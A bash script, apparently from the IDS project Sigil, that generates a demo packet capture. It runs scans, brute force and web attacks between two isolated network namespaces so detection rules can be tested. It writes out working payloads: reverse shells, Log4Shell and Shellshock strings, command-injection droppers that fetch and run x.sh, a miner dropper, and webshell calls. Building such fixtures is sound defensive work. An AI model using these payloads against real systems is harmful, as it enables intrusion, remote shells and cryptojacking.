#!/usr/bin/env bash
# Build fixtures/demo.pcap: the traffic an internet-facing VPS sees on a bad
# day, made by real clients and real servers, so that Sigil's default rule
# pack (src/defaults/default.rules) has something true to fire on.
#
# Everything happens between two network namespaces this script creates and
# joins with a veth pair; no packet is sent to any other address:
#
#   sigil-att  203.0.113.66 (TEST-NET-3)  --veth--  sigil-vps 10.13.37.10/24
#   attacker: nmap, curl, hydra, ssh,       VPS: web server :80, sshd :22,
#             nc listener :4444,                 reverse shell, miner,
#             staging web :80, pool :3333        curl/wget droppers
#
# The capture is taken on the VPS side of the veth (Ethernet link type).
# Checksum, segmentation and receive offloads are switched off with ethtool
# so the capture holds wire-sized segments with correct checksums.
#
# Usage: sudo scripts/make-demo-pcap.sh [output.pcap]
# Needs root (network namespaces, raw sockets for nmap, tcpdump). Missing
# tools are installed with apt-get. Takes about 30 s. When `suricata` is
# installed it also rewrites <output>.expected.tsv (see the end).
# Idempotent: leftovers of an earlier run are removed first, and a trap
# removes the namespaces, processes and temp files on any exit.
set -euo pipefail

REPO=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
OUT=$(realpath -m "${1:-$REPO/fixtures/demo.pcap}")

NS_VPS=sigil-vps
NS_ATT=sigil-att
IF_VPS=sigil-v0
IF_ATT=sigil-a0
VPS_IP=10.13.37.10
ATT_IP=203.0.113.66

if [[ $(id -u) -ne 0 ]]; then
    echo "make-demo-pcap: must run as root (network namespaces, raw sockets)" >&2
    exit 1
fi

# --- tools -----------------------------------------------------------------
need=()
for pair in tcpdump:tcpdump nmap:nmap hydra:hydra curl:curl wget:wget \
    nc:netcat-openbsd /usr/sbin/sshd:openssh-server ssh:openssh-client \
    ssh-keygen:openssh-client ethtool:ethtool ip:iproute2 ss:iproute2 \
    ping:iputils-ping python3:python3; do
    command -v "${pair%%:*}" >/dev/null 2>&1 || need+=("${pair#*:}")
done
if ((${#need[@]})); then
    echo "make-demo-pcap: installing ${need[*]}" >&2
    apt-get update -qq
    DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "${need[@]}" >/dev/null
fi
PY=$(command -v python3)

# --- setup and teardown ----------------------------------------------------
TMP=""
PIDS=()
CAPTURE_PID=""
MADE_RUN_SSHD=0

cleanup() {
    set +e
    if [[ -n $CAPTURE_PID ]]; then
        kill -INT "$CAPTURE_PID" 2>/dev/null
        wait "$CAPTURE_PID" 2>/dev/null
    fi
    for pid in "${PIDS[@]}"; do
        kill "$pid" 2>/dev/null
    done
    for pid in "${PIDS[@]}"; do
        wait "$pid" 2>/dev/null
    done
    # Anything still living inside our own namespaces was started by us.
    for ns in "$NS_VPS" "$NS_ATT"; do
        if ip netns list | grep -qw "$ns"; then
            for pid in $(ip netns pids "$ns" 2>/dev/null); do
                kill "$pid" 2>/dev/null
            done
            ip netns del "$ns"
        fi
    done
    if ((MADE_RUN_SSHD)); then rmdir /run/sshd 2>/dev/null; fi
    if [[ -n $TMP ]]; then rm -rf "$TMP"; fi
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# Leftovers from an interrupted earlier run.
for ns in "$NS_VPS" "$NS_ATT"; do
    if ip netns list | grep -qw "$ns"; then
        for pid in $(ip netns pids "$ns" 2>/dev/null); do kill "$pid" 2>/dev/null || true; done
        ip netns del "$ns"
    fi
done

TMP=$(mktemp -d /tmp/sigil-demo.XXXXXX)
chmod 755 "$TMP"
vps() { ip netns exec "$NS_VPS" "$@"; }
att() { ip netns exec "$NS_ATT" "$@"; }

# Start a long-running process in the background and remember its PID
# (`ip netns exec` execs the command, so the PID is the server itself).
bg() {
    local log=$1
    shift
    "$@" >"$TMP/$log.log" 2>&1 &
    PIDS+=("$!")
}

# Wait (bounded, 5 s) until something listens on a TCP port in a namespace.
wait_listen() {
    local ns=$1 port=$2 i
    for ((i = 0; i < 50; i++)); do
        if ip netns exec "$ns" ss -Hltn "sport = :$port" | grep -q .; then return 0; fi
        sleep 0.1
    done
    echo "make-demo-pcap: nothing listening on $ns:$port" >&2
    return 1
}

ip netns add "$NS_VPS"
ip netns add "$NS_ATT"
ip link add "$IF_VPS" type veth peer name "$IF_ATT"
ip link set "$IF_VPS" netns "$NS_VPS"
ip link set "$IF_ATT" netns "$NS_ATT"
for ns in "$NS_VPS" "$NS_ATT"; do
    # No IPv6 router solicitations or MLD reports in the capture.
    ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
    ip netns exec "$ns" sysctl -qw net.ipv6.conf.default.disable_ipv6=1
    ip netns exec "$ns" ip link set lo up
done
vps ip addr add "$VPS_IP/24" dev "$IF_VPS"
att ip addr add "$ATT_IP/32" dev "$IF_ATT"
vps ip link set "$IF_VPS" up
att ip link set "$IF_ATT" up
vps ip route add "$ATT_IP/32" dev "$IF_VPS"
att ip route add "$VPS_IP/32" dev "$IF_ATT"
for dev in "$NS_VPS:$IF_VPS" "$NS_ATT:$IF_ATT"; do
    ip netns exec "${dev%%:*}" ethtool -K "${dev#*:}" tx off rx off tso off gso off gro off \
        >/dev/null 2>&1 || echo "make-demo-pcap: ethtool -K failed on ${dev#*:}; checksums may be partial" >&2
done

# --- content served --------------------------------------------------------
mkdir -p "$TMP/www" "$TMP/stage" "$TMP/ssh"
cat >"$TMP/www/index.html" <<'EOF'
<!doctype html><html><head><title>example VPS</title></head>
<body><h1>It works</h1><p>Nothing to see here.</p></body></html>
EOF
cp "$TMP/www/index.html" "$TMP/stage/index.html"
cat >"$TMP/www/about.html" <<'EOF'
<!doctype html><html><body><p>A small personal site.</p></body></html>
EOF
# The attacker's staging server holds the second-stage dropper and a tiny
# (harmless: it only calls exit(0)) x86-64 ELF executable.
# x.sh is only downloaded (to /dev/null), never run; its URLs are TEST-NET.
cat >"$TMP/stage/x.sh" <<EOF
#!/bin/sh
cd /tmp || cd /var/tmp
wget -q http://$ATT_IP/kdevtmpfsi -O kdevtmpfsi || curl -s -o kdevtmpfsi http://$ATT_IP/kdevtmpfsi
chmod +x kdevtmpfsi
./kdevtmpfsi -o stratum+tcp://$ATT_IP:3333 -u worker1 -p x
EOF
"$PY" - "$TMP/stage/kdevtmpfsi" <<'EOF'
import struct, sys
code = bytes.fromhex("b83c00000031ff0f05")  # mov eax,60; xor edi,edi; syscall
base, hdr = 0x400000, 64 + 56
ehdr = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack(
    "<HHIQQQIHHHHHH", 2, 0x3E, 1, base + hdr, 64, 0, 0, 64, 56, 1, 0, 0, 0)
size = hdr + len(code)
phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)
open(sys.argv[1], "wb").write(ehdr + phdr + code)
EOF

# Minimal HTTP server: serves files under a root (never outside it), answers
# login/xmlrpc POSTs with a failure page, and plays a stub webshell under
# /uploads/ that returns canned `id` output (it runs nothing: root for GET,
# www-data for POST). Each response
# is written with one send so that headers and a small body share a segment.
cat >"$TMP/web.py" <<'EOF'
import os, sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ADDR, PORT, ROOT = sys.argv[1], int(sys.argv[2]), os.path.realpath(sys.argv[3])
TYPES = {".html": "text/html", ".sh": "text/x-sh", ".txt": "text/plain"}

class Handler(BaseHTTPRequestHandler):
    server_version = "demo-httpd/1.0"
    sys_version = ""

    def reply(self, code, body, ctype="text/html"):
        head = (f"HTTP/1.1 {code} {self.responses[code][0]}\r\n"
                f"Server: {self.server_version}\r\nContent-Type: {ctype}\r\n"
                f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n")
        self.log_request(code)
        self.wfile.write(head.encode() + body)
        self.close_connection = True

    def do_GET(self):
        path, _, query = self.path.partition("?")
        if path.startswith("/uploads/") and "cmd=" in query:
            return self.reply(200, b"<pre>uid=0(root) gid=0(root) groups=0(root)\n</pre>")
        rel = path.lstrip("/") or "index.html"
        full = os.path.realpath(os.path.join(ROOT, rel))
        if not full.startswith(ROOT + os.sep) or not os.path.isfile(full):
            return self.reply(404, b"<h1>404 Not Found</h1>")
        with open(full, "rb") as f:
            body = f.read()
        self.reply(200, body, TYPES.get(os.path.splitext(full)[1], "application/octet-stream"))

    def do_POST(self):
        length = min(int(self.headers.get("Content-Length") or 0), 65536)
        self.rfile.read(length)
        if "/uploads/" in self.path:
            return self.reply(200, b"<pre>uid=33(www-data) gid=33(www-data) groups=33(www-data)\n</pre>")
        if "xmlrpc" in self.path:
            return self.reply(200, b"<?xml version=\"1.0\"?><methodResponse><fault>"
                              b"<value><string>Incorrect username or password.</string>"
                              b"</value></fault></methodResponse>", "text/xml")
        if "login" in self.path:
            return self.reply(200, b"<p>Invalid username or password.</p>")
        self.reply(404, b"<h1>404 Not Found</h1>")

    do_PUT = do_POST

ThreadingHTTPServer((ADDR, PORT), Handler).serve_forever()
EOF

# Stratum-like mining pool: answers login / mining.subscribe /
# mining.authorize with plausible JSON, for a bounded number of connections.
cat >"$TMP/pool.py" <<'EOF'
import json, socket, sys

srv = socket.create_server((sys.argv[1], int(sys.argv[2])))
srv.settimeout(60)
JOB = {"blob": "0707" + "00" * 74, "job_id": "1", "target": "b88d0600", "algo": "rx/0", "height": 1}
for _ in range(4):
    conn, _ = srv.accept()
    conn.settimeout(5)
    buf = b""
    try:
        while True:
            data = conn.recv(4096)
            if not data:
                break
            buf += data
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                msg = json.loads(line)
                mid, method = msg.get("id"), msg.get("method")
                if method == "login":
                    out = [{"id": mid, "jsonrpc": "2.0", "error": None,
                            "result": {"id": "1", "job": JOB, "status": "OK"}}]
                elif method == "mining.subscribe":
                    out = [{"id": mid, "result": [[["mining.notify", "1"]], "08000002", 4], "error": None}]
                elif method == "mining.authorize":
                    out = [{"id": mid, "result": True, "error": None},
                           {"id": None, "method": "mining.notify",
                            "params": ["1", "00" * 32, "01", "02", [], "20000000", "1d00ffff", "5f000000", True]}]
                else:
                    out = [{"id": mid, "result": None, "error": [20, "unknown method", None]}]
                conn.sendall(b"".join(json.dumps(o).encode() + b"\n" for o in out))
    except (OSError, ValueError):
        pass
    conn.close()
EOF

# Miner client: an XMRig-style login, then a classic stratum subscribe.
cat >"$TMP/miner.py" <<'EOF'
import json, socket, sys

addr = (sys.argv[1], int(sys.argv[2]))
WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"

def talk(messages, replies):
    with socket.create_connection(addr, timeout=5) as s:
        for m in messages:
            s.sendall(json.dumps(m).encode() + b"\n")
        got = b""
        while got.count(b"\n") < replies:
            data = s.recv(4096)
            if not data:
                break
            got += data

talk([{"id": 1, "jsonrpc": "2.0", "method": "login",
       "params": {"login": WALLET, "pass": "x", "agent": "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0",
                  "algo": ["rx/0"]}}], 1)
talk([{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}], 1)
talk([{"id": 2, "method": "mining.authorize", "params": ["worker1", "x"]}], 2)
EOF

# --- servers ---------------------------------------------------------------
ssh-keygen -q -t ed25519 -N "" -C sigil-demo -f "$TMP/ssh/host_ed25519"
cat >"$TMP/ssh/sshd_config" <<EOF
Port 22
ListenAddress $VPS_IP
HostKey $TMP/ssh/host_ed25519
PidFile $TMP/ssh/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin no
AuthorizedKeysFile none
StrictModes no
MaxAuthTries 6
LoginGraceTime 20
EOF
if [[ ! -d /run/sshd ]]; then mkdir -p /run/sshd && MADE_RUN_SSHD=1; fi
/usr/sbin/sshd -t -f "$TMP/ssh/sshd_config"

bg vps-web vps "$PY" "$TMP/web.py" "$VPS_IP" 80 "$TMP/www"
bg vps-sshd vps /usr/sbin/sshd -D -e -f "$TMP/ssh/sshd_config"
bg att-stage att "$PY" "$TMP/web.py" "$ATT_IP" 80 "$TMP/stage"
bg att-pool att "$PY" "$TMP/pool.py" "$ATT_IP" 3333
wait_listen "$NS_VPS" 80
wait_listen "$NS_VPS" 22
wait_listen "$NS_ATT" 80
wait_listen "$NS_ATT" 3333

mkdir -p "$(dirname "$OUT")"
ip netns exec "$NS_VPS" tcpdump -i "$IF_VPS" -w "$OUT" -s 0 -U -n -Z root \
    >"$TMP/tcpdump.log" 2>&1 &
CAPTURE_PID=$!
for ((i = 0; i < 50; i++)); do
    grep -q "listening on" "$TMP/tcpdump.log" && break
    sleep 0.1
done
sleep 0.3

# --- traffic ---------------------------------------------------------------
T=(timeout 40)
W="http://$VPS_IP"
C=(curl -s -o /dev/null --max-time 5)
FIREFOX='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'

echo "make-demo-pcap: benign traffic" >&2
att "${C[@]}" -A "$FIREFOX" "$W/" || true
att "${C[@]}" -A "$FIREFOX" -e "$W/" "$W/about.html" || true
att "${C[@]}" -A "$FIREFOX" -d "name=Ann&message=Hello, nice site!" "$W/contact" || true
att ping -c 2 -i 0.2 -W 1 "$VPS_IP" >/dev/null || true
att timeout 10 ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no \
    -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 -o IdentitiesOnly=yes \
    -o IdentityFile=/dev/null -o PreferredAuthentications=publickey \
    guest@"$VPS_IP" true >/dev/null 2>&1 || true
vps "${C[@]}" "http://$ATT_IP/index.html" || true

echo "make-demo-pcap: port scans" >&2
NM=(timeout 40 nmap -n -Pn -T4 --max-retries 1 -p '22,80,443')
att "${NM[@]}" -sS "$VPS_IP" >/dev/null || true
att "${NM[@]}" -sN "$VPS_IP" >/dev/null || true
att "${NM[@]}" -sF "$VPS_IP" >/dev/null || true
att "${NM[@]}" -sX "$VPS_IP" >/dev/null || true
att "${NM[@]}" -O --max-os-tries 1 "$VPS_IP" >/dev/null || true
att timeout 40 nmap -n -Pn -T4 -p '22,80' -sV --version-light \
    --script http-title,ssh-hostkey "$VPS_IP" >/dev/null || true

echo "make-demo-pcap: scanners and probes" >&2
att "${C[@]}" -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' "$W/products.php?id=1" || true
att "${C[@]}" -A 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)' "$W/cgi-bin/test.cgi" || true
att "${C[@]}" -A 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' "$W/.git/config" || true
att "${C[@]}" -A 'Mozilla/5.0 zgrab/0.x' "$W/" || true
att "${C[@]}" -A 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' "$W/" || true
att "${C[@]}" -A 'gobuster/3.6' "$W/phpmyadmin/" || true
att "${C[@]}" -A "$FIREFOX" "$W/.env" || true
att "${C[@]}" -A "$FIREFOX" "$W/.git/config" || true
att "${C[@]}" -A "$FIREFOX" "$W/phpmyadmin/index.php" || true
att "${C[@]}" -A "$FIREFOX" "$W/.aws/credentials" || true
att "${C[@]}" -A 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)' "$W/wp-includes/version.php" || true

echo "make-demo-pcap: web exploits" >&2
att "${C[@]}" --path-as-is "$W/../../../../etc/passwd" || true
att "${C[@]}" "$W/index.php?page=../../../../etc/passwd" || true
att "${C[@]}" --path-as-is "$W/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd" || true
att "${C[@]}" "$W/products.php?id=1%20AND%20SLEEP(5)" || true
att "${C[@]}" "$W/products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--" || true
att "${C[@]}" -d "username=admin' OR 1=1-- -&password=x" "$W/login.php" || true
att "${C[@]}" -H "X-Api-Version: \${jndi:ldap://$ATT_IP:1389/Exploit}" "$W/" || true
att "${C[@]}" -H "X-Forwarded-For: \${\${lower:j}ndi:\${lower:l}dap://$ATT_IP:1389/a}" "$W/" || true
att "${C[@]}" "$W/?q=%24%7Bjndi%3Aldap%3A%2F%2F$ATT_IP%3A1389%2Fa%7D" || true
att "${C[@]}" -A '() { :; }; echo; /bin/bash -c "id"' "$W/cgi-bin/status" || true
att "${C[@]}" --data-binary "<?php system('id'); ?>" \
    "$W/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input" || true
att "${C[@]}" -g "$W/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id" || true
att "${C[@]}" -d "ip=1.1.1.1;cd /tmp;wget http://$ATT_IP/x.sh;chmod +x x.sh;sh x.sh" "$W/cgi-bin/ping.cgi" || true
att "${C[@]}" "$W/cgi-bin/diag.cgi?host=8.8.8.8%7Ccurl%20http://$ATT_IP/x.sh%7Csh" || true
att "${C[@]}" -d "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=\`busybox+wget+http://$ATT_IP/x.sh+-O+/tmp/gaf;sh+/tmp/gaf\`&ipv=0" \
    "$W/GponForm/diag_Form?images/" || true

echo "make-demo-pcap: brute force" >&2
printf '%s\n' 123456 password admin >"$TMP/pw.txt"
(cd "$TMP" && att "${T[@]}" hydra -l admin -P "$TMP/pw.txt" -t 2 -f -I -q \
    "ssh://$VPS_IP" >/dev/null 2>&1) || true
(cd "$TMP" && att "${T[@]}" hydra -l admin -P "$TMP/pw.txt" -t 1 -f -I -q "$VPS_IP" \
    http-post-form "/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In:F=Invalid" \
    >/dev/null 2>&1) || true
att "${C[@]}" -A "$FIREFOX" -d "log=admin&pwd=admin123&wp-submit=Log+In" "$W/wp-login.php" || true
att "${C[@]}" -H 'Content-Type: text/xml' --data-binary '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data><value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><string>admin</string></value><value><string>qwerty</string></value></data></array></value></member></struct></value></data></array></value></param></params></methodCall>' "$W/xmlrpc.php" || true
att "${C[@]}" -d "username=admin&password=admin" "$W/admin/login" || true
# curl's SFTP side is libssh2: one real password guess with its banner.
att "${C[@]}" -k -u admin:admin "sftp://$VPS_IP/etc/hostname" || true

echo "make-demo-pcap: webshells" >&2
att "${C[@]}" "$W/uploads/shell.php?cmd=id" || true
att "${C[@]}" "$W/c99.php" || true
att "${C[@]}" "$W/r57.php?act=cmd" || true
att "${C[@]}" -d "x=eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));" "$W/wp-content/uploads/x.php" || true

att "${C[@]}" -d "cmd=python3 -c 'import socket,os,pty;s=socket.create_connection((\"$ATT_IP\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'" \
    "$W/uploads/shell.php" || true

echo "make-demo-pcap: reverse shell" >&2
att "${C[@]}" -d "host=1.1.1.1;/bin/bash -i >& /dev/tcp/$ATT_IP/4444 0>&1" "$W/cgi-bin/ping.cgi" || true
att "${C[@]}" -d "host=1.1.1.1;nc -e /bin/sh $ATT_IP 4444" "$W/cgi-bin/ping.cgi" || true
att "${C[@]}" "$W/cgi-bin/ping.cgi?host=1.1.1.1%3Bbash%20-c%20%22%2Fbin%2Fsh%20-i%20%3E%26%20%2Fdev%2Ftcp%2F$ATT_IP%2F4444%200%3E%261%22" || true
{ sleep 1; printf 'id; exit\n'; sleep 1; } | att timeout 10 nc -N -l 4444 >"$TMP/revshell.out" 2>&1 &
RS_PID=$!
wait_listen "$NS_ATT" 4444
vps timeout 10 env -i PATH=/usr/bin:/bin HOME=/nonexistent HISTFILE=/dev/null TERM=dumb \
    bash --norc --noprofile -c "bash --norc --noprofile -i >& /dev/tcp/$ATT_IP/4444 0>&1" || true
wait "$RS_PID" || true

echo "make-demo-pcap: crypto miner" >&2
vps timeout 20 "$PY" "$TMP/miner.py" "$ATT_IP" 3333 || true

echo "make-demo-pcap: dropper downloads" >&2
vps timeout 10 wget -q -O /dev/null "http://$ATT_IP/x.sh" || true
vps "${C[@]}" "http://$ATT_IP/kdevtmpfsi" || true

sleep 1
kill -INT "$CAPTURE_PID"
wait "$CAPTURE_PID" || true
CAPTURE_PID=""
echo "make-demo-pcap: wrote $OUT ($(stat -c %s "$OUT") bytes)" >&2

# --- reference alerts ------------------------------------------------------
# With Suricata installed, record what it raises on the new capture into
# <capture>.expected.tsv: once as is (IDS mode) and once packet-only
# (`dsize:>0` added to every TCP payload rule). Debian 12 ships Suricata only
# in bookworm-backports; without it this step is skipped.
RULES="$REPO/src/defaults/default.rules"
EXPECTED="${OUT%.pcap}.expected.tsv"
if ! command -v suricata >/dev/null 2>&1; then
    echo "make-demo-pcap: suricata not installed; $EXPECTED not refreshed" >&2
    exit 0
fi
CLASSIFICATION=/work/shared/conformance/etc/classification.config
[[ -f $CLASSIFICATION ]] || CLASSIFICATION=/etc/suricata/classification.config
"$PY" - "$RULES" "$TMP/packet-only.rules" <<'PYEOF'
import sys
with open(sys.argv[1]) as src, open(sys.argv[2], "w") as dst:
    for line in src:
        if line.startswith("alert tcp") and ("content:" in line or "pcre:" in line) and "dsize:" not in line:
            line = line.replace("classtype:", "dsize:>0; classtype:", 1)
        dst.write(line)
PYEOF
for mode in ids packet; do
    rules=$RULES
    if [[ $mode == packet ]]; then rules="$TMP/packet-only.rules"; fi
    mkdir -p "$TMP/suricata-$mode"
    suricata -c /etc/suricata/suricata.yaml -r "$OUT" -S "$rules" -l "$TMP/suricata-$mode" -k none \
        --set classification-file="$CLASSIFICATION" \
        --set vars.address-groups.HOME_NET="[10.0.0.0/8,192.168.0.0/16,172.16.0.0/12]" \
        >"$TMP/suricata-$mode.log" 2>&1
    if ! grep -q " 0 rules failed" "$TMP/suricata-$mode/suricata.log"; then
        grep -i "error" "$TMP/suricata-$mode/suricata.log" >&2 || true
        echo "make-demo-pcap: suricata did not load every rule" >&2
        exit 1
    fi
done
"$PY" - "$TMP/suricata-ids/eve.json" "$TMP/suricata-packet/eve.json" "$EXPECTED" \
    "$(suricata -V | sed 's/^This is //')" "$(realpath --relative-to="$REPO" "$OUT")" <<'PYEOF'
import collections, json, sys

def load(path):
    count, where, msg = collections.Counter(), collections.defaultdict(list), {}
    with open(path) as f:
        for line in f:
            e = json.loads(line)
            if e.get("event_type") == "alert":
                sid = e["alert"]["signature_id"]
                count[sid] += 1
                msg[sid] = e["alert"]["signature"]
                where[sid].append(e.get("pcap_cnt") or 0)
    return count, where, msg

ids, _, msg = load(sys.argv[1])
pkt, where, _ = load(sys.argv[2])
version, pcap = sys.argv[4], sys.argv[5]
lines = [
    f"# Alerts that {version} raised on {pcap} with src/defaults/default.rules (IDS mode, defaults).",
    "# Command (from the repository root):",
    f"#   suricata -c /etc/suricata/suricata.yaml -r {pcap} -S src/defaults/default.rules -l /tmp/demo-out -k none \\",
    "#     --set classification-file=/work/shared/conformance/etc/classification.config \\",
    '#     --set vars.address-groups.HOME_NET="[10.0.0.0/8,192.168.0.0/16,172.16.0.0/12]"',
    "# count = alert events in eve.json. For TCP payload rules Suricata alerted on the packet",
    "# itself only when the rule has a start-anchored content (depth), and on the reassembled",
    "# stream (at the peer's ACK, or at flow end) for every payload rule: anchored rules count",
    "# twice per attack, the others once, on a later packet than the one carrying the content.",
    "# Every rule here matches wholly inside one packet: with `dsize:>0` added (packet-only",
    "# inspection) Suricata alerts exactly once per packet listed below as",
    "# `# packet <sid> <count> <pcap_cnt,...>`, the packet-level expectation for Sigil.",
]
lines += [f"# packet {sid} {pkt[sid]} {','.join(map(str, sorted(where[sid])))}" for sid in sorted(pkt)]
lines.append("sid\tcount\tmsg")
lines += [f"{sid}\t{ids[sid]}\t{msg[sid]}" for sid in sorted(ids)]
with open(sys.argv[3], "w") as f:
    f.write("\n".join(lines) + "\n")
if set(ids) != set(pkt):
    print("make-demo-pcap: IDS and packet-only runs fired different sids:",
          sorted(set(ids) ^ set(pkt)), file=sys.stderr)
print(f"make-demo-pcap: {len(ids)} sids fired, {sum(ids.values())} alerts; wrote {sys.argv[3]}",
      file=sys.stderr)
PYEOF
